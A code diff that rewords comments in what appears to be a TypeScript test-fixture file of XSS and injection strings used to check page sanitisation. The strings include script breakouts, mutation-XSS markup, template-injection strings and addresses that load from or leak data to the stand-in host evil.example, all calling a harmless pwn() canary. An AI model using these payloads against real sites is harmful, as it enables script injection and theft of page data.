@@ -1,6 +1,6 @@
 /**
- * Texts that do something where a page takes them for more than text. Each calls pwn(), or loads from
- * evil.example; tests/e2e/support/canary.ts hears of both. Short, because most fields are.
+ * Texts that act if a page takes them for more than text. Each calls pwn(), or loads from evil.example;
+ * tests/e2e/support/canary.ts notices both. Short, because most fields are.
  */
 
 /** Markup. */
@@ -37,12 +37,12 @@ const MARKUP = [
   "<p style=x:expression(pwn())>x",
   "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
   "<base href=https://evil.example/>",
-  // A quote left open takes what follows along.
+  // An open quote includes what follows.
   "<img src='https://evil.example/?",
   "<base target='",
 ] as const;
 
-/** Texts that end the attribute, element or script they are written into. */
+/** Texts that end the attribute, element or script around them. */
 const WAYS_OUT = [
   "</title><script>pwn()</script>",
   "</textarea><script>pwn()</script>",
@@ -64,7 +64,7 @@ const WAYS_OUT = [
   '"}</script><script>pwn()</script>',
 ] as const;
 
-/** Texts that do harm only when something decodes them twice. */
+/** Texts that do harm only if something decodes them twice. */
 const MUTATIONS = [
   '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
   '<svg></p><style><a id="</style><img src=x onerror=pwn()>">',
@@ -78,7 +78,7 @@ const MUTATIONS = [
   "<scr\u200bipt>pwn()</scr\u200bipt>",
 ] as const;
 
-/** Texts that do harm in templates, Markdown, mail headers, PDFs or names of properties, or deceive the eye. */
+/** Texts that do harm in templates, Markdown, mail headers, PDFs or property names, or deceive the eye. */
 const OTHER_LANGUAGES = [
   "{{constructor.constructor('pwn()')()}}",
   "$" + "{pwn()}",
@@ -135,7 +135,7 @@ export const DANGEROUS_ADDRESSES = [
   "https://",
 ] as const;
 
-/** Addresses of websites that contain a payload. */
+/** Websites' addresses that contain a payload. */
 export const ODD_ADDRESSES = [
   "https://evil.example/<script>pwn()</script>",
   'https://evil.example/"onmouseover="pwn()',
